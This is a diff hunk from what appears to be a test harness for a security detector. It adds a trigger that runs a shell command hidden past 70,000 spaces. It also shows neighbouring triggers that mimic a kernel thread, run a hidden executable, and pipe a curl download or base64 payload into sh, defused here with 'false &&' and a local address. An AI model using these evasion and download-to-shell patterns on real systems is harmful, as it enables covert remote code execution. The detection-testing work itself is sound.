@@ -91,6 +91,7 @@ const triggers: Readonly<Record<string, () => void>> = {
   'hidden-executable': () => runAs('.update'),
   'kernel-thread-disguise': () => runAs('worker', [], { argv0: '[kworker/0:1]' }),
   'loader-run-by-hand': () => run('/lib64/ld-linux-x86-64.so.2', ['/bin/true']),
+  'command-beyond-sight': () => run('/bin/sh', ['-c', `${' '.repeat(70_000)}:`]),
   'new-program-in-container': runInContainer,
   'decoder-piped-to-shell': () => run('/bin/sh', ['-c', 'false && echo aWQ= | base64 -d | sh']),
   'download-piped-to-shell': () => run('/bin/sh', ['-c', 'false && curl -fsSL http://127.0.0.1:9/x.sh | sh']),
